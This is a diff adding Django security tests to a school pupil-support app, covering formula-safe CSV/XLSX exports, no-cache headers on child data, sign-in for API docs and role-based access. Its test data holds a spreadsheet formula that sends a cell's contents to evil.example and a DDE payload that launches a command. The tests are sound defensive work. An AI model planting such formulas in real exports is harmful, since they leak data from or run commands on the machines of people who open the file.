@@ -89,3 +89,81 @@ def test_sign_out_everywhere_ends_every_session_and_the_token(school_a):
     assert phone.get(register).status_code == 302  # the other device is signed out
     assert not Token.objects.filter(user=school_a.senco).exists()
     assert sign_in(Client()).get(register).status_code == 200  # signing in again works
+
+
+# Findings of a black-box test ----------------------------------------------------------
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.mark.django_db
+def test_spreadsheet_exports_write_formulas_as_text(school_a, as_user):
+    """A pupil named like a formula, and a session note starting "@", are text in every
+    export: a leading apostrophe in CSV, a string cell in XLSX."""
+    import csv
+    import io
+
+    from django.utils import timezone
+    from openpyxl import load_workbook
+
+    from apps.plans import services as plans
+    from apps.plans.sessions import session_correct
+    from apps.pupils.models import Pupil
+    from apps.schools.tenancy import school_scope
+
+    from .test_money_pages import heavy
+
+    _, provision = heavy(school_a)
+    with school_scope(school_a.school):
+        Pupil.objects.filter(pk=school_a.pupil.pk).update(last_name=FORMULA, first_name="Ann")
+        session = plans.session_record(provision=provision, actor=school_a.ta,
+                                       date=timezone.localdate())
+        session_correct(session=session, actor=school_a.senco, note="x",
+                        correction_reason="@SUM(1+1)*cmd|' /C calc'!A0")
+    client = as_user(school_a.senco)
+    url = f"/s/{school_a.school.slug}/money/provision-map/"
+    rows = list(csv.reader(io.StringIO(client.get(url, {"download": "csv"}).content.decode())))
+    assert rows[1][0] == f"'{FORMULA}, Ann"
+    detail = load_workbook(io.BytesIO(client.get(url, {"download": "xlsx"}).content))["Detail"]
+    assert detail["A2"].value == f"{FORMULA}, Ann" and detail["A2"].data_type == "s"
+    audit = client.get(f"/s/{school_a.school.slug}/pupils/{school_a.pupil.pk}/audit/",
+                       {"download": "csv"}).content.decode()
+    why = [row[6] for row in list(csv.reader(io.StringIO(audit)))[1:] if row[6]]
+    assert why and all(reason.startswith("'@") for reason in why)
+
+
+@pytest.mark.django_db
+def test_responses_with_a_childs_data_are_never_cached(school_a, as_user, api_as):
+    slug, pupil = school_a.school.slug, school_a.pupil
+    client = as_user(school_a.senco)
+    answers = [client.get(f"/s/{slug}/pupils/{pupil.pk}/"),
+               client.get(f"/s/{slug}/money/provision-map/", {"download": "csv"}),
+               client.get(f"/s/{slug}/pupils/{pupil.pk}/audit/", {"download": "csv"}),
+               api_as(school_a.senco).get(f"/api/v1/schools/{slug}/pupils/{pupil.pk}/")]
+    for answer in answers:
+        assert answer.status_code == 200
+        directives = {d.strip() for d in answer["Cache-Control"].split(",")}
+        assert {"no-store", "private"} <= directives, answer["Cache-Control"]
+
+
+@pytest.mark.django_db
+def test_the_api_schema_and_its_documentation_need_a_signed_in_user(client, api, school_a):
+    assert api.get("/api/v1/schema/").status_code in (401, 403)
+    docs = client.get("/api/v1/docs/")
+    assert docs.status_code == 302 and "/accounts/sign-in/" in docs["Location"]
+    api.force_authenticate(school_a.teacher)
+    assert api.get("/api/v1/schema/").status_code == 200
+
+
+@pytest.mark.django_db
+def test_a_role_that_may_not_see_plans_finds_no_provision_library_entry(school_a, as_user,
+                                                                       api_as):
+    from .factories import ProvisionTypeFactory
+
+    kind = ProvisionTypeFactory(school=school_a.school, name="Talk Boost")
+    slug = school_a.school.slug
+    assert api_as(school_a.parent).get(
+        f"/api/v1/schools/{slug}/provision-types/{kind.pk}/").status_code == 404
+    assert api_as(school_a.teacher).get(
+        f"/api/v1/schools/{slug}/provision-types/{kind.pk}/").status_code == 200
